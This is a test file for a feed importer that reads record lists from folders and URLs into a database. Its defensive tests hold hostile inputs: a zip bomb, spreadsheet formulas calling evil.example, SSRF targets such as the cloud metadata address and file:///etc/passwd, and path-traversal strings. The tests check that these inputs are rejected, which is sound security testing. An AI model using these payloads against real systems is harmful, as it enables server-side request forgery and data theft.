"""Pulls, end to end: a real folder and a real HTTP server, into a real database."""

import datetime as dt
import io
import json
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from api.db.base import now
from api.db.tables import RecordRow, RecordVersion
from api.feeds.chore import pull_due
from api.feeds.lease import claim
from api.feeds.pull import pull
from api.records.content import stored_record
from matcher.report.cells import clean
from tests.api.feeds.farm import HEADINGS, Farm, csv_of, rows_of
from tests.api.outbound.conftest import Site


def test_a_folder_is_read_once_and_then_unchanged(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2, 3])))
    run = farm.read(feed)
    assert (run.outcome, farm.counts(run)) == ("ok", (3, 0, 0, 0, 0))
    rows = farm.rows()
    assert {row.state for row in rows.values()} == {"published"}
    assert {row.owner_id for row in rows.values()} == {farm.world.people["institution"].organisation_id}
    record = stored_record(rows["A2"])
    assert record.org == "institution单位"
    assert record.provenance is not None
    # Headings are in row 1, so the second record is in row 3.
    assert (record.provenance.file, record.provenance.row) == ("list.csv", 3)
    assert farm.read(feed).outcome == "unchanged"


def test_rows_that_only_moved_have_not_changed(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2])))
    farm.read(feed)
    changed = [("A9", "新的涂层技术", "新的简介"), *rows_of([2, 1])]
    farm.put(csv_of(changed))
    assert farm.counts(farm.read(feed)) == (1, 0, 2, 0, 0)
    assert {row.version for row in farm.rows().values()} == {1}


def test_an_address_is_read_by_etag_and_by_content(url_farm: Farm, site: Site) -> None:
    site.reply("/list.csv", csv_of(rows_of([1])), ETag='"v1"')
    feed = url_farm.feed(kind="url", source=f"{site.url}/list.csv")
    assert url_farm.counts(url_farm.read(feed)) == (1, 0, 0, 0, 0)
    site.reply("/list.csv", status=304)
    assert url_farm.read(feed).outcome == "unchanged"
    assert site.seen[-1][2]["if-none-match"] == '"v1"'
    # Another mark, the same bytes.
    site.reply("/list.csv", csv_of(rows_of([1])), ETag='"v2"')
    assert url_farm.read(feed).outcome == "unchanged"
    site.reply("/list.csv", csv_of([("A1", "抗氧化涂层技术（改）", "x")]), ETag='"v3"')
    assert url_farm.counts(url_farm.read(feed)) == (0, 1, 0, 0, 0)


def test_json_with_mapped_headings(url_farm: Farm, site: Site) -> None:
    rows = [{"no": "J1", "what": "秸秆制乙醇工艺", "text": "每吨秸秆产乙醇 200 升"}]
    site.reply("/list", json.dumps(rows).encode())
    mapping = {"no": "id", "what": "title", "text": "summary"}
    feed = url_farm.feed(kind="url", source=f"{site.url}/list", mapping=mapping)
    assert url_farm.counts(url_farm.read(feed)) == (1, 0, 0, 0, 0)
    assert url_farm.rows()["J1"].title == "秸秆制乙醇工艺"


def test_what_is_absent_from_a_complete_feed_is_withdrawn_and_comes_back(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2, 3])), complete=True)
    farm.read(feed)
    farm.put(csv_of(rows_of([1])))
    assert farm.counts(farm.read(feed)) == (0, 0, 1, 2, 0)
    assert {key: row.state for key, row in farm.rows().items()} == {
        "A1": "published",
        "A2": "withdrawn",
        "A3": "withdrawn",
    }
    farm.put(csv_of(rows_of([1, 2])))
    assert farm.counts(farm.read(feed)) == (0, 1, 1, 0, 0)
    assert farm.rows()["A2"].state == "published"


def test_what_a_person_withdrew_stays_withdrawn(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])))
    farm.read(feed)
    world, row = farm.world, farm.rows()["A1"]
    headers = {**world["institution"], "If-Match": '"1"'}
    moved = world.client.post(f"/api/v1/achievements/{row.id}/state", json={"state": "withdrawn"}, headers=headers)
    assert moved.status_code == 200
    farm.put(csv_of([("A1", "抗氧化涂层技术（改）", "x")]))
    farm.read(feed)
    after = farm.rows()["A1"]
    assert (after.state, after.title) == ("withdrawn", "抗氧化涂层技术（改）")


def test_a_source_that_lost_most_of_its_list_withdraws_nothing_until_confirmed(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of(range(22))), complete=True)
    farm.read(feed)
    farm.put(csv_of(rows_of(range(10))))
    run = farm.read(feed)
    # 12 of 22 are more than half, and more than 10.
    assert (run.outcome, farm.counts(run)) == ("partly", (0, 0, 10, 0, 0))
    assert {row.state for row in farm.rows().values()} == {"published"}
    assert farm.inbox() == ["供数“河南大学成果库”少了 12 条记录，等待确认"]
    world, url = farm.world, f"/api/v1/feeds/{feed['id']}/confirmation"
    wrong = world.client.post(url, json={"run_id": "0" * 26, "withdraw": True}, headers=world["institution"])
    assert wrong.status_code == 409
    stranger = world.client.post(url, json={"run_id": run.id, "withdraw": True}, headers=world["institution2"])
    assert stranger.status_code == 404
    done = world.client.post(url, json={"run_id": run.id, "withdraw": True}, headers=world["institution"])
    assert (done.status_code, done.json()) == (200, {"withdrawn": 12})
    assert sum(row.state == "withdrawn" for row in farm.rows().values()) == 12
    again = world.client.post(url, json={"run_id": run.id, "withdraw": True}, headers=world["institution"])
    assert again.status_code == 409


@pytest.mark.parametrize(("before", "after", "withdrawn"), [(22, 11, 11), (10, 0, 9), (20, 9, 0)])
def test_the_guard_asks_above_half_and_above_ten(farm: Farm, before: int, after: int, withdrawn: int) -> None:
    feed = farm.folder(csv_of(rows_of(range(before))), complete=True)
    farm.read(feed)
    # An empty list is a broken file, so one always stays.
    farm.put(csv_of(rows_of(range(max(after, 1)))))
    assert farm.read(feed).withdrawn == withdrawn


def test_a_rejected_row_keeps_its_record(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2])), complete=True)
    farm.read(feed)
    farm.put(csv_of([rows_of([1])[0], ("A2", "", "")]))
    run = farm.read(feed)
    assert farm.counts(run) == (0, 0, 1, 0, 1)
    assert run.outcome == "partly"
    assert run.details["rejected"][0]["place"] == "list.csv 3"
    assert run.details["rejected"][0]["external_id"] == "A2"
    assert farm.rows()["A2"].state == "published"


def test_a_record_that_became_secret_is_withdrawn_and_its_text_kept_nowhere(farm: Farm) -> None:
    headings = (*HEADINGS, "密级")
    feed = farm.folder(csv_of([("A1", "某型涂层", "简介", "")], headings), complete=True)
    farm.read(feed)
    farm.put(csv_of([("A1", "某型涂层甲乙丙", "简介", "机密"), ("A2", "另一种涂层", "简介", "")], headings))
    run = farm.read(feed)
    assert farm.counts(run) == (1, 0, 0, 1, 1)
    assert farm.rows()["A1"].state == "withdrawn"
    assert "甲乙丙" not in json.dumps(run.details, ensure_ascii=False)


def test_by_hand_is_not_overwritten_unless_adopted(farm: Farm) -> None:
    world = farm.world
    entry = {"content": {"title": "人工录入的涂层"}, "external_id": "A1", "publish": True}
    assert world.client.post("/api/v1/achievements", json=entry, headers=world["institution"]).status_code == 201
    feed = farm.folder(csv_of(rows_of([1, 2])))
    run = farm.read(feed)
    assert farm.counts(run) == (1, 0, 0, 0, 1)
    assert "人工录入" in run.details["rejected"][0]["reason"]
    assert farm.rows()["A1"].title == "人工录入的涂层"
    url = f"/api/v1/feeds/{feed['id']}"
    body = {"name": feed["name"], "source": "kfu", "adopt": True}
    headers = {**world["institution"], "If-Match": '"1"'}
    assert world.client.put(url, json=body, headers=headers).status_code == 200
    assert farm.counts(farm.read(feed)) == (0, 1, 1, 0, 0)
    assert farm.rows()["A1"].feed_id == feed["id"]


def test_records_of_a_deleted_feed_pass_to_the_next(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])))
    farm.read(feed)
    headers = {**farm.world["institution"], "If-Match": '"1"'}
    assert farm.world.client.delete(f"/api/v1/feeds/{feed['id']}", headers=headers).status_code == 204
    other = farm.feed(kind="folder", source="kfu", name="新的成果库")
    assert farm.counts(farm.read(other)) == (0, 0, 1, 0, 0)
    assert farm.rows()["A1"].feed_id == other["id"]


def test_a_closed_record_is_not_opened_by_a_source_that_says_nothing(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])), visibility=2)
    farm.read(feed)
    row = farm.rows()["A1"]
    assert row.visibility == 2
    world = farm.world
    content = {"title": row.title, "visibility": 3, "tiers": {"description": 3}}
    headers = {**world["institution"], "If-Match": '"1"'}
    changed = world.client.put(f"/api/v1/achievements/{row.id}", json={"content": content}, headers=headers)
    assert changed.status_code == 200
    farm.put(csv_of([("A1", "抗氧化涂层技术（改）", "x")]))
    farm.read(feed)
    after = farm.rows()["A1"]
    assert (after.title, after.visibility, after.tiers) == ("抗氧化涂层技术（改）", 3, {"description": 3})
    # An empty cell says nothing either.
    rows = [("A1", "抗氧化涂层技术（再改）", "x", ""), ("A2", "另一种涂层", "x", "公开")]
    farm.put(csv_of(rows, (*HEADINGS, "可见范围")))
    farm.read(feed)
    assert [(farm.rows()[key].visibility) for key in ("A1", "A2")] == [3, 2]
    # A source that says so may.
    farm.put(csv_of([("A1", "抗氧化涂层技术（改）", "x", "公开")], (*HEADINGS, "可见范围")))
    farm.read(feed)
    assert farm.rows()["A1"].visibility == 1


def test_the_status_of_the_source_counts(farm: Farm) -> None:
    headings = (*HEADINGS, "状态")
    states = {"A1": "发布", "A2": "撤回", "A3": "已转化", "A4": "草稿"}
    feed = farm.folder(csv_of([(key, f"涂层技术{key}", "简介", status) for key, status in states.items()], headings))
    farm.read(feed)
    found = {key: row.state for key, row in farm.rows().items()}
    assert found == {"A1": "published", "A2": "withdrawn", "A3": "done", "A4": "draft"}
    farm.put(csv_of([("A1", "涂层技术A1", "简介", "撤回"), ("A2", "涂层技术A2", "简介", "发布")], headings))
    farm.read(feed)
    found = {key: row.state for key, row in farm.rows().items()}
    assert (found["A1"], found["A2"]) == ("withdrawn", "published")


def test_what_has_run_out_is_not_published_again(farm: Farm) -> None:
    feed = farm.folder(csv_of([("A1", "涂层技术", "简介", "2026-03-31")], (*HEADINGS, "有效期")))
    assert farm.counts(farm.read(feed, today=dt.date(2026, 4, 1))) == (1, 0, 0, 0, 0)
    assert farm.rows()["A1"].state == "expired"
    farm.put(csv_of([("A1", "涂层技术（改）", "简介", "2026-03-31")], (*HEADINGS, "有效期")))
    assert farm.counts(farm.read(feed, today=dt.date(2026, 4, 1))) == (0, 1, 0, 0, 0)
    assert farm.rows()["A1"].state == "expired"
    farm.put(csv_of([("A1", "涂层技术（改）", "简介", "2027-03-31")], (*HEADINGS, "有效期")))
    farm.read(feed, today=dt.date(2026, 4, 1))
    assert farm.rows()["A1"].state == "published"


@pytest.mark.parametrize("gone", ["withdrawn", "expired", "deleted"])
def test_what_comes_back_is_published_from_then_on(farm: Farm, gone: str) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2])), complete=True)
    farm.read(feed)
    long_ago = now() - dt.timedelta(days=100)
    with farm.world.service.database.work() as session:
        row = session.scalars(select(RecordRow).where(RecordRow.external_id == "A1")).one()
        row.published_at = long_ago
        if gone == "expired":
            row.state = "expired"
        if gone == "deleted":
            row.deleted_at = now()
    if gone == "withdrawn":
        farm.put(csv_of(rows_of([2])))
        farm.read(feed)
    # Changed, so that the file is read again.
    farm.put(csv_of([*rows_of([1]), ("A2", "涂层技术（改）", "简介")]))
    farm.read(feed)
    row = farm.rows()["A1"]
    assert (row.state, row.deleted_at) == ("published", None)
    assert row.published_at is not None
    assert now() - row.published_at < dt.timedelta(minutes=5)


def test_a_text_that_a_workbook_cut_is_not_taken_for_the_whole(farm: Farm) -> None:
    whole = "石墨电极涂层" * 8_000
    feed = farm.folder(csv_of([("A1", "抗氧化涂层技术1号", whole)]))
    farm.read(feed)
    farm.put(csv_of([("A1", "抗氧化涂层技术2号", clean(whole)), ("A2", "抗氧化涂层技术3号", clean(whole))]))
    run = farm.read(feed)
    assert farm.counts(run) == (0, 1, 0, 0, 1)
    assert farm.rows().keys() == {"A1"}
    assert (farm.rows()["A1"].title, farm.rows()["A1"].content["summary"]) == ("抗氧化涂层技术2号", whole)


def test_review_comes_before_publishing(any_settings: Callable[..., Farm], tmp_path: Path) -> None:
    root = tmp_path / "supplied"
    root.mkdir()
    farm = any_settings(root, review=True)
    feed = farm.folder(csv_of(rows_of([1])))
    farm.read(feed)
    row = farm.rows()["A1"]
    assert row.state == "review"
    headers = {**farm.world["organiser"], "If-Match": '"1"'}
    url = f"/api/v1/achievements/{row.id}/state"
    assert farm.world.client.post(url, json={"state": "published"}, headers=headers).status_code == 200
    farm.put(csv_of([("A1", "抗氧化涂层技术（改）", "x")]))
    farm.read(feed)
    assert farm.rows()["A1"].state == "review"


def test_drafts_are_deleted_not_withdrawn(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1, 2])), complete=True, publish=False)
    farm.read(feed)
    assert {row.state for row in farm.rows().values()} == {"draft"}
    farm.put(csv_of(rows_of([1])))
    assert farm.read(feed).withdrawn == 1
    assert farm.rows()["A2"].deleted_at is not None
    farm.put(csv_of(rows_of([1, 2])))
    assert farm.counts(farm.read(feed)) == (0, 1, 1, 0, 0)
    assert (farm.rows()["A2"].deleted_at, farm.rows()["A2"].state) == (None, "draft")


def test_rows_of_the_other_side_are_rejected(farm: Farm) -> None:
    needs = csv_of([("N1", "电极涂层需求", "高温下掉渣")], ("编号", "需求名称", "拟解决的技术难题"))
    feed = farm.folder(csv_of(rows_of([1])))
    farm.put(needs, "needs.csv")
    run = farm.read(feed)
    assert farm.counts(run) == (1, 0, 0, 0, 1)
    assert run.details["rejected"][0]["place"] == "needs.csv 2"
    assert list(farm.rows()) == ["A1"]


def test_failures_back_off_and_are_told_once_and_so_is_recovery(url_farm: Farm, site: Site) -> None:
    feed = url_farm.feed(kind="url", source=f"{site.url}/list.csv?token=s3cret", every_minutes=60)
    waits = []
    for _ in range(5):
        run = url_farm.read(feed)
        assert (run.outcome, run.finished_at is not None) == ("failed", True)
        assert "404" in run.error
        assert "s3cret" not in run.error
        waits.append(round((url_farm.row_feed(feed).due_at - now()).total_seconds() / 60))
    # 60 minutes, doubled with each failure, at most a day.
    assert waits == [120, 240, 480, 960, 1440]
    assert url_farm.inbox() == ["供数“河南大学成果库”连续 3 次读取失败"]
    site.reply("/list.csv", csv_of(rows_of([1])))
    assert url_farm.read(feed).outcome == "ok"
    assert url_farm.inbox()[1:] == ["供数“河南大学成果库”已恢复正常"]
    assert url_farm.row_feed(feed).failures == 0
    assert round((url_farm.row_feed(feed).due_at - now()).total_seconds() / 60) == 60


def test_an_administrators_feed_tells_the_institution_too(farm: Farm) -> None:
    organisation_id = farm.world.people["institution2"].organisation_id
    feed = farm.feed("administrator", kind="folder", source="nowhere", organisation_id=organisation_id)
    for _ in range(3):
        run = farm.read(feed)
    assert "不存在" in run.error
    assert len(farm.inbox("administrator")) == len(farm.inbox("institution2")) == 1


def test_two_workers_do_not_read_the_same_feed(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])))
    database = farm.world.service.database
    first, second = claim(database, feed["id"], now()), claim(database, feed["id"], now())
    assert first is not None
    assert second is None
    # The first dies; when its lease has run out, another takes over, and the first may not write any more.
    later = claim(database, feed["id"], now() + dt.timedelta(minutes=16))
    assert later is not None
    assert pull(farm.world.service, first) == "failed"
    assert farm.rows() == {}
    assert pull(farm.world.service, later) == "ok"
    assert farm.row_feed(feed).failures == 0


def test_the_chore_reads_what_is_due(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])))
    farm.feed(name="推送的")
    assert pull_due(farm.world.service) == 1
    assert pull_due(farm.world.service) == 0
    answer = farm.world.client.post(f"/api/v1/feeds/{feed['id']}/run", json={}, headers=farm.world["institution"])
    assert answer.status_code == 202
    assert pull_due(farm.world.service) == 1


def test_hostile_files_are_told_and_change_nothing(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])), complete=True)
    farm.read(feed)
    for name, body in _hostile().items():
        for old in (farm.root / "kfu").iterdir():
            old.unlink()
        farm.put(body, "list.xlsx" if name != "html" else "list.csv")
        run = farm.read(feed)
        assert run.outcome == "failed", name
        assert run.error.endswith("。"), name
        assert str(farm.root) not in run.error, name
        assert tempfile.gettempdir() not in run.error, name
        assert farm.rows()["A1"].state == "published", name


def _hostile() -> dict[str, bytes]:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(256):
                part.write(b" " * 2**20)
    whole = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["编号", "成果名称"])
    book.active.append(["A1", "涂层"])
    book.save(whole)
    return {
        "bomb": bomb.getvalue(),
        "cut": whole.getvalue()[:-200],
        "pdf": b"%PDF-1.7\n1 0 obj",
        "html": b"<html><script>alert(1)</script></html>",
        "empty": b"",
    }


def test_formulas_are_text_or_nothing(farm: Farm) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["编号", "成果名称", "成果简介", "联系电话"])
    sheet.append(["A1", '=HYPERLINK("http://evil.example/"&A1,"点我")', "", ""])
    sheet.append(["A2", "涂层技术", '=WEBSERVICE("http://evil.example")', "x"])
    saved = io.BytesIO()
    book.save(saved)
    feed = farm.folder(saved.getvalue(), "list.xlsx")
    run = farm.read(feed)
    # A formula never calculated has no value: a title without one is no record.
    assert farm.counts(run) == (1, 0, 0, 0, 1)
    assert "公式" in run.details["rejected"][0]["reason"]
    assert "evil" not in json.dumps(farm.rows()["A2"].content)
    assert any("公式" in note for note in run.details["notes"])


def test_an_address_must_be_allowed_and_stays_checked_on_redirects(url_farm: Farm, site: Site) -> None:
    def refused(source: str) -> str:
        body = {"name": "某成果库", "kind": "url", "side": "achievement", "source": source}
        answer = url_farm.world.client.post("/api/v1/feeds", json=body, headers=url_farm.world["institution"])
        assert answer.status_code == 422, source
        assert answer.json()["errors"][0]["field"] == "source"
        return str(answer.json()["detail"])

    for source in (
        "https://data.example.cn/list.csv",
        "http://169.254.169.254/latest/meta-data/",
        f"http://localhost:{site.port}/",
        f"http://127.1:{site.port}/",
        f"http://2130706433:{site.port}/",
        f"http://user@127.0.0.1:{site.port}/",
        f"https://127.0.0.1:{site.port + 1}/",
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
        "",
    ):
        refused(source)
    feed = url_farm.feed(kind="url", source=f"{site.url}/moved")
    for target in ("http://169.254.169.254/", f"http://localhost:{site.port}/list.csv", "file:///etc/passwd"):
        site.reply("/moved", status=302, Location=target)
        run = url_farm.read(feed)
        assert (run.outcome, run.created) == ("failed", 0)
    # Taken from the list, it is not read any more.
    site.reply("/moved", csv_of(rows_of([1])))
    host = f"/api/v1/allowed-hosts/127.0.0.1:{site.port}"
    assert url_farm.world.client.delete(host, headers=url_farm.world["administrator"]).status_code == 204
    seen = len(site.seen)
    assert "允许" in url_farm.read(feed).error
    assert len(site.seen) == seen


def test_private_addresses_need_the_setting_too(make_world: Callable[..., object], site: Site) -> None:
    farm = Farm(make_world(), Path())  # type: ignore[arg-type]
    farm.world.client.put(
        f"/api/v1/allowed-hosts/127.0.0.1:{site.port}", json={"unencrypted": True}, headers=farm.world["administrator"]
    )
    body = {"name": "某成果库", "kind": "url", "side": "achievement", "source": f"{site.url}/list.csv"}
    answer = farm.world.client.post("/api/v1/feeds", json=body, headers=farm.world["institution"])
    assert answer.status_code == 422
    assert "内部" in answer.json()["detail"]


@pytest.mark.parametrize("source", ["../outside", "/etc", "kfu/../../x", "a\\b", ""])
def test_folders_only_below_the_root(farm: Farm, source: str) -> None:
    body = {"name": "某成果库", "kind": "folder", "side": "achievement", "source": source}
    assert farm.world.client.post("/api/v1/feeds", json=body, headers=farm.world["institution"]).status_code == 422


def test_a_link_out_of_the_root_is_not_followed(farm: Farm, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "list.csv").write_bytes(csv_of(rows_of([1])))
    (farm.root / "kfu").symlink_to(outside)
    feed = farm.feed(kind="folder", source="kfu")
    assert farm.read(feed).outcome == "failed"
    assert farm.rows() == {}


def test_versions_say_that_a_feed_did_it(farm: Farm) -> None:
    feed = farm.folder(csv_of(rows_of([1])), complete=True)
    farm.read(feed)
    farm.put(csv_of(rows_of([2])))
    farm.read(feed)
    with farm.world.service.database.reading() as session:
        versions = session.scalars(
            select(RecordVersion).where(RecordVersion.record_id == farm.rows()["A1"].id).order_by(RecordVersion.version)
        ).all()
    assert [(item.action, item.state) for item in versions] == [("feed", "published"), ("feed-withdraw", "withdrawn")]
